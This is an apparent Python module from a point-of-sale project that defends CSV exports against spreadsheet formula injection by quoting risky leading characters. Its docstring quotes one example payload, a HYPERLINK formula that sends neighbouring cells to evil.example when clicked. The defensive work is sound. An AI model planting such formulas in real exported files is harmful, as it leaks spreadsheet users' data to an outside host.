"""The cells of every CSV file the project writes: shown safely, and never a formula a spreadsheet would run.

A spreadsheet opening a CSV file runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
(and one that begins with a tab or a carriage return, after it strips them): an item named
``=HYPERLINK("http://evil.example/?"&A1,"Refund")`` in ``pos report items --csv`` becomes a live link
that sends the neighbouring cells away when clicked.  OWASP's advice ("CSV injection") is followed:
such a cell is written with a single quote in front (``'=HYPERLINK(...)``), which a spreadsheet shows
as text and a person reading the file can still read.  The full-width forms of those signs
(U+FF1D, U+FF0B, U+FF0D, U+FF20), which some spreadsheets read as the ASCII ones, are treated the same.

One exception, on purpose: a cell that is *entirely* a number (``-5.00``, ``+3``, ``-1250``, an
optional sign, digits and at most one decimal point) stays as it is.  A refund's ``-5.00`` in an
amount column is data, not a formula (nothing else follows the sign to run), and the person who opens
the file in a spreadsheet expects it to add up as a number.  Anything else that begins with one of
those characters (``-2+3``, ``-5.00 cash``, ``+1 555 0100``, ``-``) is neutralised.

Every writer goes through :func:`csv_cell` (through :func:`writer` or :func:`rows_text`);
``tests/test_csv_cells.py`` checks that no module writes CSV any other way.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any, Iterable, Protocol, TextIO

from pos.base.text import shown

__all__ = ["FORMULA_STARTS", "csv_cell", "rows_text", "writer"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""The first characters that make a spreadsheet read a cell as a formula (ASCII and full-width)."""

_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
"""A cell that is a number and nothing else: kept as it is, a number to the spreadsheet."""


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text shown safely (:func:`pos.base.text.shown`), with a ``'`` in front when it
    would begin a formula and is not entirely a number; a number (``int``) as it is."""
    if value is None or isinstance(value, (bool, int)):
        return "" if value is None else value
    raw = value if isinstance(value, str) else str(value)
    text = shown(raw)  # a tab or a line break in front is shown as '\\t', '\\r': quoted all the same
    if (raw.startswith(FORMULA_STARTS) or text.startswith(FORMULA_STARTS)) and _NUMBER.fullmatch(text) is None:
        return "'" + text
    return text


class RowWriter(Protocol):
    def writerow(self, row: Iterable[Any]) -> Any: ...


class _SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`csv_cell`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(cell) for cell in row])


def writer(out: TextIO) -> RowWriter:
    """A CSV writer to ``out`` (one ``\\n`` per row) that neutralises every cell (:func:`csv_cell`)."""
    return _SafeWriter(out)


def rows_text(rows: Iterable[Iterable[Any]]) -> str:
    """``rows`` as CSV text, every cell neutralised."""
    buffer = io.StringIO()
    out = writer(buffer)
    for row in rows:
        out.writerow(row)
    return buffer.getvalue()
